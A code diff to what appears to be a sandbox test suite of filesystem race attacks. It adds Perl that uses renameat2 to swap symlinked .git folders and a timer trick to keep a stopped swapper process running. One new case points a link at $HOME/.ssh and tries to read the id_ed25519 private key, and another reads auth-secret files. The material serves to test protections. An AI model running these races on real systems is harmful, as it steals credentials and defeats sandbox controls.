@@ -48,6 +48,15 @@ my $renameat2 = (POSIX::uname())[4] eq "aarch64" ? 276 : 316;
 sub swap { my ($a, $b) = @_; syscall($renameat2, -100, $a, -100, $b, 2); }
 `;
 
+/** Wakes this process again and again, even when it was stopped: timer_create(2) and timer_settime(2) with SIGCONT. */
+export const WAKE = `
+my ($create, $settime) = (POSIX::uname())[4] eq "aarch64" ? (107, 110) : (222, 223);
+sub wake { my ($ns) = @_; $SIG{CONT} = sub {};
+  my $event = pack("x8 l l x48", 18, 0); my $timer = pack("l", 0);
+  syscall($create, 1, $event, $timer) == 0 or die;
+  my $times = pack("q4", 0, $ns, 0, $ns); syscall($settime, unpack("l", $timer), 0, $times, 0) == 0 or die; }
+`;
+
 /** A new protected name each time: only then is a base made at all. */
 const provoke = (index: number) => `mkdir -p fresh/${index}/.vscode`;
 
@@ -70,6 +79,12 @@ export const RACES: readonly Attack[] = [
     prepare: 'mkdir -p x/.git y; ln -s "$HOME/../instances/own" y/.git',
     swapper: `${EXCHANGE} while (1) { swap("x/.git", "y/.git"); }`,
     attempt: (index) => `cat x/.git/auth-secret y/.git/auth-secret; ${provoke(index)}`,
+  },
+  {
+    name: 'a folder for a link, by a program that wakes itself',
+    prepare: 'mkdir -p x/.git y; ln -s "$HOME/.ssh" y/.git',
+    swapper: `${EXCHANGE} ${WAKE} wake(20000000); while (1) { swap("x/.git", "y/.git"); }`,
+    attempt: (index) => `cat x/.git/id_ed25519 y/.git/id_ed25519; ${provoke(index)}`,
   },
   {
     name: 'the parents of a repository',
